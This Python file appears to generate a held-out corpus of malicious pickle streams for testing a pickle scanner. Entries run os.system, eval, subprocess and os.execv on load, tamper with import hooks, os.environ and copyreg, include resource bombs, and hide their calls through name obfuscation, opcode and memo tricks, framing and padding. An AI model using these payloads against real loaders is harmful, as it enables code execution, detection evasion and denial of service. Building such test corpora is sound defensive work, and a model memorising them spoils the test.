"""Held-out attacks: pickles whose opcodes are the trick. The payload is plain; how it is spelled is not."""

# ruff: noqa: E501 (one attack a line)
from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator

from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    EVIL,
    HIDDEN,
    MARK,
    STATE,
    SYSTEM,
    TOUCH,
    WRITE,
    Attack,
    Raw,
    build,
    call,
    name,
    new,
    op,
    pickled,
    stream,
)

T = TOUCH.encode()
R = Raw


def _stack(module: object, qualname: object) -> Raw:
    """STACK_GLOBAL over two computed values, called."""
    return R(op(module) + op(qualname) + b"\x93" + op((TOUCH,)) + b"R")


def spelling() -> Iterator[Attack]:
    """Names that are not written out."""
    add = call("operator:add", "o", "s")
    table = {
        "added": ("the module's name is computed by operator.add", _stack(add, "system")),
        "joined": ("str.join makes the name", _stack("os", call("builtins:str.join", "", ["sys", "tem"]))),
        "rot13": ("codecs.decode turns the name back", _stack(call("codecs:decode", "bf", "rot13"), "system")),
        "from-bytes": ("str(bytes, 'ascii') makes the name", _stack(call("builtins:str", b"os", "ascii"), "system")),
        "replaced": ("str.replace makes the name", _stack("os", call("builtins:str.replace", "sysxtem", "x", ""))),
        "dict-key": ("the name is taken out of a dict by next(iter())", _stack("os", call("builtins:next", call("builtins:iter", {"system": 1})))),
        "str-subclass": ("the name is an object of str made by NEWOBJ", _stack(new("builtins:str", "os"), "system")),
        "template": ("string.Template fills in the name", _stack("os", call("string:Template.substitute", call("string:Template", "${a}tem"), {"a": "sys"}))),
        "memo-of-name": ("one string is memoized and used as module and qualified name of different globals", R(op("posix") + b"q\x01" + op("system") + b"q\x02" + b"00" + b"h\x01h\x02\x93" + op((TOUCH,)) + b"R")),
        "string-escape": ("protocol 0 strings with escapes spell the name", R(b"S'\\x6f\\x73'\nS'\\163ystem'\n\x93" + op((TOUCH,)) + b"R")),
        "unicode-escape": ("raw unicode escapes spell the name", R(b"V\\u006f\\u0073\nVsys\\u0074em\n\x93" + op((TOUCH,)) + b"R")),
        "dotted-through": ("a dotted name walks from an honest module to os", R(op("logging") + op("os.system") + b"\x93" + op((TOUCH,)) + b"R")),
        "dotted-far": ("a dotted name walks over four modules", call("random:_os.path.genericpath.os.system", TOUCH)),
        "getattr-class": ("getattr on a bound builtin walks to its module", call(call("builtins:getattr", call("builtins:getattr", name("posix:getcwd"), "__self__"), "system"), TOUCH)),
        "globals-dict": ("the __globals__ of a Python function hold what its module imported", call(call("operator:getitem", call("operator:getitem", name("json:load.__globals__"), "__builtins__"), "eval"), WRITE)),
        "compat-commands": ("protocol 2 maps Python 2's commands.getoutput to subprocess", R(b"ccommands\ngetoutput\n" + op((TOUCH,)) + b"R")),
        "compat-urllib": ("protocol 2 maps Python 2's urllib.urlretrieve", R(b"curllib\nurlretrieve\n" + op(("file:///etc/passwd", MARK)) + b"R")),
        "compat-builtin": ("protocol 2 maps __builtin__.reduce, apply's heir, to functools", R(b"c__builtin__\nreduce\n" + op((name("os:system"), [TOUCH])) + b"R0c__builtin__\neval\n" + op((WRITE,)) + b"R")),
        "compat-cpickle": ("protocol 2 maps cPickle.loads", R(b"ccPickle\nloads\n" + op((EVIL,)) + b"R")),
        "proto-switch": ("PROTO in mid-stream changes how names are looked up", R(b"\x80\x04cshutil\nos.system\n\x80\x02" + op((TOUCH,)) + b"R")),
    }  # fmt: skip
    for what, (does, body) in table.items():
        proto = 2 if what.startswith(("compat", "proto")) else 4
        yield pickled("pickle-spelling", what, does, data=stream(body, proto=proto))


def opcodes() -> Iterator[Attack]:
    """Opcodes that few pickles use, or that leave the machine in odd states."""
    ext = R(call("copyreg:add_extension", "os", "system", 77) + b"0\x82\x4d" + op((TOUCH,)) + b"R")
    ext4 = R(
        call("copyreg:add_extension", "os", "system", 70000) + b"0\x84" + struct.pack("<i", 70000) + op((TOUCH,)) + b"R"
    )
    inst = b"(S'" + T + b"'\nios\nsystem\n"
    obj = R(b"(" + name("os:system") + op(TOUCH) + b"o")
    frames = EVIL[2:]
    half = len(frames) // 2
    table = {
        "ext1": ("registers an extension code, then calls it by EXT1", stream(ext)),
        "ext4": ("the same with EXT4", stream(ext4)),
        "inst": ("INST calls without a tuple", inst + b"."),
        "obj": ("OBJ calls what is in the mark", stream(obj, proto=2)),
        "newobj-ex": ("NEWOBJ_EX gives keyword arguments to a class that acts in __new__", stream(R(name("builtins:map") + op((name("os:system"), [TOUCH])) + op({}) + b"\x92q\x09"), call("builtins:tuple", R(b"h\x09")))),
        "newobj-only": ("no REDUCE at all: tuple.__new__ uses up map.__new__ of os.system", stream(new("builtins:tuple", new("builtins:map", name("os:system"), [TOUCH])))),
        "newobj-frozenset": ("frozenset.__new__ uses up filter.__new__", stream(new("builtins:frozenset", new("builtins:filter", name("os:system"), (TOUCH,))))),
        "frame-straddle": ("an opcode lies across the end of its frame", b"\x80\x04\x95" + struct.pack("<Q", half) + frames),
        "frame-in-frame": ("frames that begin within frames", b"\x80\x04\x95" + struct.pack("<Q", 20) + b"\x95" + struct.pack("<Q", 4) + frames),
        "frame-empty": ("an empty frame, then opcodes outside of frames", b"\x80\x05\x95" + b"\0" * 8 + frames),
        "proto-late": ("opcodes of protocol 4 without PROTO", frames),
        "proto-twice": ("PROTO 0 after PROTO 5", b"\x80\x05\x80\x00" + frames),
        "dup-callable": ("the callable is duplicated, one copy is popped", stream(R(name("os:system") + b"2" + op((TOUCH,)) + b"R0"), R(b"N"))[:-1] + b"."),
        "pop-mark": ("the result is thrown away with its mark", stream(R(b"(" + SYSTEM + b"1"), op({"weights": [1.0]}))),
        "memo-overwrite": ("a memo entry is written twice; what is called is the second", stream(R(name("math:sqrt") + b"q\x05" + b"0" + name("os:system") + b"q\x05" + b"0h\x05" + op((TOUCH,)) + b"R"))),
        "memoize-clash": ("MEMOIZE counts entries, PUT names them: they meet", stream(R(name("math:sqrt") + b"q\x01" + b"0" + name("os:system") + b"\x94" + b"0" + b"h\x01" + op((TOUCH,)) + b"R"))),
        "memo-arguments": ("the tuple of arguments comes from the memo, far away", stream(R(op((TOUCH,)) + b"r\x00\x00\x01\x00" + b"0" + name("os:system") + b"j\x00\x00\x01\x00R"))),
        "memo-text": ("PUT and GET with signs and spaces in their numbers", stream(R(name("os:system") + b"p 0011 \n" + b"0" + b"g+11\n" + op((TOUCH,)) + b"R"))),
        "list-as-args": ("the arguments are a tuple that was made out of a list", stream(R(name("os:system") + call("builtins:tuple", [TOUCH]) + b"R"))),
        "dict-key": ("the call hides in a dict's key", stream(R(b"}" + SYSTEM + op(1) + b"s"))),
        "deep": ("the call hides below 20,000 lists", stream(R(b"]" * 20000 + SYSTEM + b"a" * 20000))),
        "padded": ("the call lies behind 3 MB of opcodes that do nothing", stream(R(b"K\x000" * 1_000_000 + SYSTEM))),
        "long4": ("numbers of 2 MB between", stream(R(b"\x8b" + struct.pack("<I", 2_000_000) + b"\x01" * 2_000_000 + b"0" + SYSTEM))),
        "integer-bool": ("INT 01 and LONG with an L, then the call", stream(R(b"I01\nI 12 \nL-5L\nL7\nF1e3\n" + b"00000" + SYSTEM), proto=0)),
        "additems": ("ADDITEMS calls the add of an object; a set's state carries the call", stream(R(call("builtins:set") + b"(" + SYSTEM + b"\x90"))),
        "bytearray8": ("protocol 5: BYTEARRAY8, then the call", stream(R(b"\x96" + struct.pack("<Q", 5) + b"abcde0" + SYSTEM), proto=5)),
        "binbytes8": ("BINBYTES8 with a length of eight bytes", stream(R(b"\x8e" + struct.pack("<Q", 3) + b"abc0\x8d" + struct.pack("<Q", len(T)) + T + b"q\x00" + name("os:system") + b"h\x00\x85R"))),
    }  # fmt: skip
    for what, (does, data) in table.items():
        yield pickled("pickle-opcodes", what, does, data=data)


def broken() -> Iterator[Attack]:
    """The loader stops with an error after it has acted, or reads on where one pickle ends."""
    start = EVIL[:-1]
    table = {
        "no-stop": ("no STOP", start),
        "bad-opcode": ("an unknown opcode behind the call", start + b"\xff."),
        "pop-empty": ("pops an empty stack", start + b"0000."),
        "bad-utf8": ("a string that is no UTF-8", start + b"\x8c\x02\xff\xfe."),
        "bad-int": ("a number that is none", start + b"Ione\n."),
        "short-bytes": ("bytes longer than the file", start + b"B\xff\xff\xff\x7fabc"),
        "negative": ("a negative length", start + b"T\xff\xff\xff\xff."),
        "missing-memo": ("GET of what was never put", start + b"h\xee."),
        "proto-99": ("an unknown protocol behind the call", start + b"\x80\x63."),
        "persistent": ("a persistent id that no loader resolves", start + b"Q."),
        "next-buffer": ("an out-of-band buffer that is not there", start + b"\x97."),
        "missing-module": ("a module that does not exist behind the call", start + b"cno_such_module\nX\n."),
        "newline": ("a line that does not end", start + b"Sabc"),
    }
    for what, (does, data) in table.items():
        yield pickled("pickle-broken", what, does, data=data, rules=CALL | BROKEN)
    honest = pickle.dumps({"weights": [1.0, 2.0]}, 2)
    again = "import pickle\nwith open(F, 'rb') as f:\n    while f.peek(1): pickle.load(f)"
    yield pickled("pickle-broken", "second-stream", "the second pickle of the file, as programs that dump several read it", data=honest + EVIL, rules=CALL | HIDDEN, loader="pickle.load in a loop", call=again)  # fmt: skip
    skip = "import pickle; f = open(F, 'rb'); f.seek(64); pickle.load(f)"
    yield pickled("pickle-broken", "after-padding", "a pickle behind zeros that fill up a header of 64 bytes", data=honest.ljust(64, b"\0") + EVIL, rules=CALL | HIDDEN, loader="pickle.load after seek", call=skip)  # fmt: skip


def state() -> Iterator[Attack]:
    """BUILD, APPEND, SETITEM and ADDITEMS as calls: no callable meets its arguments in a REDUCE."""
    thing = call("types:SimpleNamespace")
    system = name("os:system")
    kind = call("builtins:type", "T", (name("builtins:object"),), {"__setstate__": name("builtins:eval")})
    slot = Raw(op((None, {"__setstate__": system})))
    table = {
        "instance-setstate": ("an object gets os.system as __setstate__, the second BUILD calls it", stream(build(build(thing, {"__setstate__": system}), TOUCH))),
        "instance-append": ("APPEND calls the attribute append", stream(R(build(thing, {"append": system}) + op(TOUCH) + b"a"))),
        "instance-extend": ("APPENDS calls the attribute extend with a list", stream(R(build(thing, {"extend": name("subprocess:check_call")}) + b"(" + op("/bin/touch") + op(MARK) + b"e"))),
        "instance-add": ("ADDITEMS calls the attribute add", stream(R(build(thing, {"add": system}) + b"(" + op(TOUCH) + b"\x90"))),
        "new-type": ("type.__new__ makes a class whose __setstate__ is eval", stream(build(new(kind), WRITE))),
        "new-type-setitem": ("SETITEM on a dict subclass whose __setitem__ is os.execv", stream(R(new(call("builtins:type", "D", (name("builtins:dict"),), {"__setitem__": name("os:execv")})) + op("/bin/touch") + op(["touch", MARK]) + b"s"))),
        "class-slots": ("the slot state of BUILD sets attributes of an imported class, then an honest object is rebuilt", stream(R(name("collections:UserDict") + slot + b"b"), build(new("collections:UserDict"), TOUCH))),
        "module-build": ("BUILD on a module replaces its functions", stream(build(name("os:path"), {"splitext": system}))),
        "function-code": ("BUILD gives an honest Python function the code of another one", stream(R(name("json:loads") + op((None, {"__code__": call("builtins:compile", WRITE, "", "eval")})) + b"b"))),
        "defaults": ("BUILD changes the default arguments of a function of the library", stream(R(name("shutil:rmtree") + op((None, {"__defaults__": (True, None)})) + b"b"))),
        "partial-setstate": ("functools.partial's state is its function and arguments", stream(R(build(new("functools:partial", name("builtins:print")), (system, (TOUCH,), {}, {})) + b")R"))),
        "environ-update": ("a class of the library writes through SETITEMS to the environment", stream(R(name("os:environ") + op({"CANARY-7f3a": "1"})[1:]))),
        "userdict-data": ("state makes sys.modules the inner dict of an object, SETITEM changes it", stream(R(build(new("collections:UserDict"), {"data": name("sys:modules")}) + op("json") + op("CANARY-7f3a") + b"s"))),
        "chainmap": ("a ChainMap over the globals of a module, changed by SETITEM", stream(R(build(new("collections:ChainMap"), {"maps": [name("json:load.__globals__")]}) + op("loads") + system + b"s"))),
        "property": ("BUILD puts a property with a getter of choice on a class", stream(R(name("collections:UserDict") + op((None, {"data": call("builtins:property", name("builtins:breakpoint"))})) + b"b"))),
        "hook-list": ("os.system is appended to the import system's hooks", stream(R(name("sys:path_hooks") + system + b"a"))),
        "meta-path": ("a list of finders is emptied and refilled through BUILD-less LIST opcodes", stream(R(name("sys:meta_path") + b"(" + op("CANARY-7f3a") + b"e"))),
        "dispatch-table": ("copyreg's table for later pickles is changed", stream(R(name("copyreg:dispatch_table") + name("builtins:complex") + system + b"s"))),
    }  # fmt: skip
    shows = {
        "module-build": "import os.path; os.path.splitext('touch /tmp/MARK')",
        "function-code": "import json; json.loads()",
        "defaults": "import shutil; print('CANARY-7f3a' * (shutil.rmtree.__defaults__ == (True, None)))",
        "environ-update": "import os; print(list(os.environ))",
        "userdict-data": "import sys; print(sys.modules['json'])",
        "chainmap": "import json; json.loads('touch /tmp/MARK')",
        "property": "import collections; print('CANARY-7f3a' * isinstance(collections.UserDict.__dict__.get('data'), property))",
        "hook-list": "import sys, os; print('CANARY-7f3a' * (os.system in sys.path_hooks))",
        "meta-path": "import sys; print(sys.meta_path)",
        "dispatch-table": "import copyreg, os; print('CANARY-7f3a' * (copyreg.dispatch_table[complex] is os.system))",
    }
    for what, (does, data) in table.items():
        load = "import pickle, collections\nx = pickle.load(open(F, 'rb'))\n" + shows.get(what, "")
        yield pickled("pickle-state", what, does, data=data, rules=STATE, call=load)


def bombs() -> Iterator[Attack]:
    pairs = b")" + b"2\x86" * 60
    table = {
        "hash": ("a dict key of tuples of tuples is hashed 2^60 times", stream(R(b"}" + pairs + b"Ns"))),
        "memo-index": ("one PUT makes the C unpickler allocate a table of 8 GB", stream(R(b"Nr\xff\xff\xff\x1f"))),
        "repeat": ("operator.mul makes a string of 10 GB", stream(call("operator:mul", b"A", 10**10))),
        "bytearray": ("bytearray(n)", stream(call("builtins:bytearray", 10**11))),
        "power": ("a power tower", stream(call("builtins:pow", 9, 9**10))),
        "product": ("list() of a product of ranges", stream(call("builtins:list", call("itertools:product", call("builtins:range", 10**6), call("builtins:range", 10**6))))),
        "regex": ("re.match on a pattern with exponential backtracking", stream(call("re:match", r"(a|a)*b", "a" * 60))),
    }  # fmt: skip
    calls = {"repeat", "bytearray", "power", "product", "regex"}
    for what, (does, data) in table.items():
        rules = CALL | BOMB if what in calls else BOMB | BROKEN
        yield pickled("pickle-bombs", what, does, data=data, rules=rules, proof="bomb")


def attacks() -> Iterator[Attack]:
    yield from spelling()
    yield from opcodes()
    yield from broken()
    yield from state()
    yield from bombs()
